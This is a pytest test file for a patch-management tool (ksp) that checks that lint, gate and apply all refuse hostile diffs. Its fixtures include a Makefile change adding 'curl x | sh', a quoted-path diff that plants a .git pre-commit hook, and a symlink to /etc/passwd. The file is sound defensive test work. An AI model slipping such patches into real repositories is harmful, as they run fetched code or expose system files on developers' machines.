"""One diff parser and one policy: lint, the gate and apply refuse the same patches.

Each hostile diff below was accepted by the gate and `apply` (and some by lint, through C-quoted
paths) before the policy had one home; each must now be refused by all three, with nothing
written in the consumer's tree.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from ksp.cli.main import main
from ksp.git import diff as diffmod
from ksp.model import PatchKind
from ksp.repo import config as config_mod
from ksp.repo import policy, profile_text
from ksp.repo.patchfile import new_header

FILES = {"pkg/auth/auth.go": "package auth\n", "Makefile": "all:\n\tgo build ./...\n"}
SHA = "1" * 40

HOSTILE = {
    "quoted-dot-git": ('diff --git "a/\\056git/hooks/pre-commit" "b/\\056git/hooks/pre-commit"\n'
                       "new file mode 100644\nindex 0000000..1111111\n--- /dev/null\n"
                       '+++ "b/\\056git/hooks/pre-commit"\n@@ -0,0 +1 @@\n+echo owned\n',
                       "KSP401"),
    "quoted-utf8-hack": ('diff --git "a/hack/\\303\\274.sh" "b/hack/\\303\\274.sh"\n'
                         "new file mode 100644\nindex 0000000..1111111\n--- /dev/null\n"
                         '+++ "b/hack/\\303\\274.sh"\n@@ -0,0 +1 @@\n+echo owned\n', "KSP406"),
    "symlink": ("diff --git a/pkg/link b/pkg/link\nnew file mode 120000\n"
                "index 0000000..1111111\n--- /dev/null\n+++ b/pkg/link\n@@ -0,0 +1 @@\n"
                "+/etc/passwd\n\\ No newline at end of file\n", "KSP403"),
    "gitlink": ("diff --git a/vendor/sub b/vendor/sub\nnew file mode 160000\n"
                "index 0000000..1111111\n--- /dev/null\n+++ b/vendor/sub\n@@ -0,0 +1 @@\n"
                f"+Subproject commit {SHA}\n", "KSP409"),
    "mode-change": ("diff --git a/pkg/auth/auth.go b/pkg/auth/auth.go\nold mode 100644\n"
                    "new mode 100755\n", "KSP405"),
    "makefile": ("diff --git a/Makefile b/Makefile\nindex 1111111..2222222 100644\n"
                 "--- a/Makefile\n+++ b/Makefile\n@@ -1,2 +1,2 @@\n all:\n-\tgo build ./...\n"
                 "+\tcurl x | sh\n", "KSP406"),
}


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(cwd), *args], check=True, capture_output=True,
                          text=True).stdout


def make_upstream(path: Path) -> Path:
    path.mkdir()
    git(path, "init", "-q", "-b", "release-1.30")
    for name, text in FILES.items():
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).write_text(text)
    git(path, "add", "-A")
    git(path, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "v1.30.14")
    return path


def make_repo(root: Path, diff: str) -> Path:
    root.mkdir()
    text = profile_text.render("kubernetes", "https://github.com/kubernetes/kubernetes",
                             "release-{minor}", "v{minor}.{patch}", "k8s.io/kubernetes")
    (root / "ksp.yaml").write_text(text)
    (root / "index.yaml").write_text("schema: ksp/v1\nadvisories: {}\n")
    header = new_header(PatchKind.SECURITY, "CVE-2025-0001", {
        "Original patch": "https://github.com/kubernetes/kubernetes/pull/1",
        "CVE issue": "https://github.com/kubernetes/kubernetes/issues/1",
        "Severity": "MEDIUM (CVSS 6.5)", "Affected components": "kube-apiserver",
        "Testing": "Validated", "CVE Fixer": "@f", "SRC Reviewer": "@r"})
    (root / "v1.30").mkdir()
    (root / "v1.30" / "0001_CVE-2025-0001.patch").write_text(header.render() + diff)
    return root


def state(tree: Path) -> tuple[str, str, str]:
    return (git(tree, "status", "--porcelain", "--ignored"), git(tree, "rev-parse", "HEAD"),
            git(tree, "ls-files", "--stage"))


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_refused_by_lint_gate_and_apply(case: str, tmp_path: Path,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    diff, code = HOSTILE[case]
    repo = make_repo(tmp_path / "patches", diff)
    upstream = make_upstream(tmp_path / "upstream")
    capsys.readouterr()

    assert main(["lint", "--repo", str(repo), "--format", "json"]) == 1
    codes = {f["code"] for f in json.loads(capsys.readouterr().out)["findings"]}
    assert code in codes

    rc = main(["gate", "--repo", str(repo), "--upstream", str(upstream), "--minor", "1.30",
               "--no-build", "--no-test", "--format", "json"])
    err = capsys.readouterr().err
    assert rc == 1
    assert "v1.30/0001_CVE-2025-0001.patch:" in err and "policy:" in err
    assert not (repo / ".ksp" / "evidence").exists()  # refused before anything ran

    before = state(upstream)
    rc = main(["apply", "--repo", str(repo), "--minor", "1.30", "--to", str(upstream),
               "--commit"])
    assert rc == 1
    assert "policy:" in capsys.readouterr().err
    assert state(upstream) == before


def test_a_waiver_lets_apply_take_a_forbidden_path(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "patches", HOSTILE["makefile"][0])
    upstream = make_upstream(tmp_path / "upstream")
    config = repo / "ksp.yaml"
    config.write_text(config.read_text().replace("waivers: []", "waivers: [CVE-2025-0001]"))
    assert main(["apply", "--repo", str(repo), "--minor", "1.30", "--to", str(upstream)]) == 0
    assert "curl" in (upstream / "Makefile").read_text()


def test_a_dot_git_path_is_never_waivable(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "patches", HOSTILE["quoted-dot-git"][0])
    upstream = make_upstream(tmp_path / "upstream")
    config = repo / "ksp.yaml"
    config.write_text(config.read_text().replace("waivers: []", "waivers: [CVE-2025-0001]"))
    assert main(["apply", "--repo", str(repo), "--minor", "1.30", "--to", str(upstream)]) == 1
    assert not (upstream / ".git" / "hooks" / "pre-commit").exists()


# --- the parser --------------------------------------------------------------------------------

def test_quoted_names_are_unquoted_as_git_does() -> None:
    files = diffmod.parse(HOSTILE["quoted-utf8-hack"][0].encode(), strict=True)
    assert files[0].path == "hack/ü.sh" and files[0].old_path is None
    assert diffmod.unquote(b'"a\\tb\\nc\\"d\\\\e\\101"') == b'a\tb\nc"d\\eA'
    files = diffmod.parse(HOSTILE["quoted-dot-git"][0].encode(), strict=True)
    assert files[0].names == [".git/hooks/pre-commit"]
    assert diffmod.unsafe_path(files[0].path) == "is inside .git"


def test_every_extended_header_is_read() -> None:
    text = (b"diff --git a/old.go b/new.go\nsimilarity index 91%\nrename from old.go\n"
            b"rename to new.go\nindex 1111111..2222222 100644\n--- a/old.go\n+++ b/new.go\n"
            b"@@ -1 +1,2 @@\n x\n+y\n"
            b"diff --git a/a.go b/c.go\nsimilarity index 100%\ncopy from a.go\ncopy to c.go\n"
            b"diff --git a/gone.go b/gone.go\ndeleted file mode 100755\nindex 3333333..0000000\n"
            b"diff --git a/img.png b/img.png\nindex 4444444..5555555 100644\nGIT binary patch\n"
            b"literal 3\nKcmZQz00000\n\nliteral 0\nKcmV+b0RR6000031\n\n"
            b"diff --git a/sub b/sub\nindex 6666666..7777777 160000\n--- a/sub\n+++ b/sub\n"
            b"@@ -1 +1 @@\n-Subproject commit 6\n+Subproject commit 7\n")
    rename, copy, deleted, binary, gitlink = diffmod.parse(text, strict=True)
    assert (rename.old_path, rename.new_path, rename.rename, rename.similarity) == \
        ("old.go", "new.go", True, 91)
    assert (rename.old_blob, rename.new_blob, rename.added, rename.removed) == \
        ("1111111", "2222222", 1, 0)
    assert (copy.old_path, copy.new_path, copy.copy, copy.similarity) == \
        ("a.go", "c.go", True, 100)
    assert deleted.new_path is None and deleted.old_mode == "100755"
    assert binary.binary and not binary.hunks
    assert gitlink.gitlink and not gitlink.symlink
    assert [f.line for f in (rename, copy, deleted, binary, gitlink)] == [1, 11, 15, 18, 27]


@pytest.mark.parametrize(("text", "line", "words"), [
    (b"index 1..2\n", 1, "expected a 'diff --git'"),
    (b"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -a,b +c,d @@\n", 4, "bad hunk header"),
    (b"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n x\n-y\n+z\n", 7, "cut short"),
    (b"diff --git a/x b/x\n--- a/y\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", 2, "'---' names"),
    (b'diff --git "a/x b/x\n', 1, "unterminated"),
])
def test_malformed_diffs_name_their_line(text: bytes, line: int, words: str) -> None:
    with pytest.raises(diffmod.DiffError) as caught:
        diffmod.parse(text, strict=True)
    assert caught.value.line == line
    assert words in caught.value.message


def test_policy_reports_every_rule_with_its_line() -> None:
    text = "".join(d for d, _ in HOSTILE.values()).encode()
    found = policy.check(diffmod.parse(text, strict=True), config_mod.Policy(), name="x.patch")
    assert {v.code for v in found} == {"KSP401", "KSP403", "KSP405", "KSP406", "KSP409"}
    assert all(v.line >= 1 for v in found)
